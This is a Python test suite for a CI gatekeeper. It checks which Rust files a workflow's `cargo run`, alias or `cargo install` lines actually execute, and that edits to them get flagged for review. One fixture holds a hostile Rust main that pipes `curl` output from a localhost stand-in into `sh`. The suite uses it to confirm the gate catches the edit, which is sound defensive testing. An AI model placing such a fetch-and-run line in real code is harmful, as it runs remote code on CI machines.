"""Attack 47: the binary, example or workspace package a CI job runs with `cargo run` (cargobins.py).

`cargo run --bin cihelper`, an alias `ci = "run --bin cihelper"` and a step `cargo ci`, `cargo run --example gen`,
`cargo run -p tool` and a `default-run` ran the job's own program, and an edit to it was `src`: exit 0 on f0c3df6e
(`gate --tree`). The lead's decision: what CI runs (not merely builds or tests) is CI tooling, its entry file and the
module tree below it `ci`; the library it links and the product's own binary stay `src`.
"""

from __future__ import annotations

from pathlib import Path

from citools import LINE_DEFINITIONS, tree_runs, with_line
from gitrepo import two_commits
from incli import reviewed_paths, tree_gate
from tables import each_case

from gatekeeper.classify import cargobins

MAIN = 'fn main() {\n    println!("ci");\n}\n'
EVIL = 'fn main() {\n    std::process::Command::new("sh").arg("-c").arg("curl -s https://127.0.0.1:9 | sh");\n}\n'
ROOT = {"Cargo.toml": '[package]\nname = "app"\nversion = "0.1.0"\n\n[[bin]]\nname = "relay"\npath = "tools/relay.rs"\n'
                      '\n[[example]]\nname = "demo"\npath = "samples/demo/main.rs"\n',
        "src/lib.rs": "pub mod core;\n", "src/core.rs": "pub fn add() {}\n", "src/main.rs": MAIN,
        "src/bin/cihelper.rs": MAIN, "src/bin/other.rs": MAIN, "src/bin/pack/main.rs": MAIN,
        "src/bin/pack/zip.rs": "pub fn zip() {}\n", "src/bin/cihelper/util.rs": "pub fn u() {}\n",
        "examples/gen.rs": MAIN, "examples/other.rs": MAIN, "examples/big/main.rs": MAIN,
        "tools/relay.rs": MAIN, "tools/relay/net.rs": "pub fn n() {}\n", "samples/demo/main.rs": MAIN,
        "samples/demo/draw.rs": "pub fn d() {}\n",
        "crates/lsp/Cargo.toml": '[package]\nname = "slint-lsp"\n', "crates/lsp/src/main.rs": MAIN,
        "crates/core/Cargo.toml": '[package]\nname = "core"\n', "crates/core/src/lib.rs": "pub fn c() {}\n",
        "crates/core/src/bin/dump.rs": MAIN}
# (command line, an extra file or two, a file it runs)
RUNS = [("cargo run --bin cihelper", {}, "src/bin/cihelper.rs"),
        ("cargo run --bin=cihelper -- --fix", {}, "src/bin/cihelper/util.rs"),
        ("cargo -q r --release --bin 'cihelper'", {}, "src/bin/cihelper.rs"),
        ("cargo run --locked --bin pack", {}, "src/bin/pack/zip.rs"),
        ("cargo ci", {".cargo/config.toml": '[alias]\nci = "run --bin cihelper"\n'}, "src/bin/cihelper.rs"),
        ("cargo ci", {".cargo/config.toml": '[alias]\nci = ["run", "--bin", "pack"]\n'}, "src/bin/pack/main.rs"),
        ("cargo lint", {".cargo/config.toml": '[alias]\nlint = "ci --fix"\nci = "r --example gen"\n'},
         "examples/gen.rs"),
        ("cargo run --example gen", {}, "examples/gen.rs"),
        ("cargo run --example=big", {}, "examples/big/main.rs"),
        ("cargo run --bin relay", {}, "tools/relay.rs"),
        ("cargo run --bin relay", {}, "tools/relay/net.rs"),
        ("cargo run --example demo", {}, "samples/demo/draw.rs"),
        ("cargo run -p slint-lsp", {}, "crates/lsp/src/main.rs"),
        ("cargo run --package=slint-lsp -- --stdio", {}, "crates/lsp/src/main.rs"),
        ("cargo run -p core --bin dump", {}, "crates/core/src/bin/dump.rs"),
        ("cargo run -p ghost", {"deep/er/still/ghost/src/main.rs": MAIN}, "deep/er/still/ghost/src/main.rs"),
        ('cargo run --bin "$TOOL"', {}, "src/bin/other.rs"),
        ("cargo +nightly run --bin slint-lsp -p slint-lsp", {}, "crates/lsp/src/main.rs"),
        ("cargo install --path crates/lsp && slint-lsp --stdio", {}, "crates/lsp/src/main.rs"),
        ("cargo install --locked --path=./crates/lsp", {}, "crates/lsp/src/main.rs"),
        ("cargo run", {"Cargo.toml": '[package]\nname = "app"\ndefault-run = "cihelper"\n'}, "src/bin/cihelper.rs")]
# look-alikes: built or tested, not run; another target; the product's own binary and the library it links
STAYS = [("cargo build --bin cihelper", "src/bin/cihelper.rs"), ("cargo test --bin cihelper", "src/bin/cihelper.rs"),
         ("cargo run --bin cihelper", "src/lib.rs"),
         ("cargo run --bin cihelper", "src/main.rs"), ("cargo run --bin cihelper", "src/bin/other.rs"),
         ("cargo run --bin cihelper", "src/core.rs"), ("cargo run --example gen", "examples/other.rs"),
         ("cargo run -p app", "src/main.rs"), ("cargo run --bin app", "src/main.rs"),
         ("cargo run -p core --bin dump", "crates/core/src/lib.rs"),
         ("cargo run -- --bin cihelper", "src/bin/cihelper.rs"), ("cargo install --path .", "src/main.rs"),
         ("cargo install ripgrep", "crates/lsp/src/main.rs")]


@each_case(("definition", "template", "line", "extra", "target"),
           [(*definition, *run) for definition in LINE_DEFINITIONS[:3] for run in RUNS])
def test_what_cargo_runs_is_ci(definition: str, template: str, line: str, extra: dict[str, str],
                               target: str) -> None:
    assert target in tree_runs(with_line(definition, template, line, {**ROOT, **extra}))


@each_case(("line", "target"), STAYS)
def test_look_alikes_stay_src(line: str, target: str) -> None:
    assert target not in tree_runs(with_line(*LINE_DEFINITIONS[0], line, ROOT))


def test_an_unreadable_manifest_may_be_the_package() -> None:
    files = {**ROOT, "crates/lsp/Cargo.toml": '[package\nname = "slint-lsp"\n'}  # cargo cannot read it: fail closed
    runs = tree_runs(with_line(*LINE_DEFINITIONS[0], "cargo run -p slint-lsp", files))
    assert "crates/lsp/src/main.rs" in runs and "crates/core/src/lib.rs" not in runs


def test_targets_reads_the_manifests() -> None:
    found = cargobins.crates({"": ROOT["Cargo.toml"], "crates/lsp": '[package]\nname = "slint-lsp"\n', "x": "[bad"})
    assert found.folders == {"app": ".", "slint-lsp": "crates/lsp"}
    assert found.entries == {("bin", "relay"): ("tools/relay.rs",), ("example", "demo"): ("samples/demo/main.rs",)}
    assert cargobins.targets(" -p slint-lsp", [], found, frozenset()) == ["crates/lsp/*.rs"]
    assert cargobins.targets(" -p app", [], found, frozenset()) == []
    assert cargobins.targets(" -p slint-lsp", [], found, frozenset({"crates/lsp"})) == []


@each_case(("config", "line", "target"), [
    ('[alias]\nci = "run --bin cihelper"\n', "cargo ci", "src/bin/cihelper.rs"),
    ("", "cargo run --example gen", "examples/gen.rs"),
    ("", "cargo run -p slint-lsp", "crates/lsp/src/main.rs")])
def test_the_default_gate_reviews_the_edit(tmp_path: Path, config: str, line: str, target: str) -> None:
    base = {**ROOT, ".github/workflows/ci.yml": LINE_DEFINITIONS[0][1].format(line=line)}
    base |= {".cargo/config.toml": config} if config else {}
    repo, first, head = two_commits(tmp_path / "repo", base, {target: EVIL})
    code, decision = tree_gate(repo.root, first, head)
    assert code == 3 and reviewed_paths(decision, "core.ci") == {target}
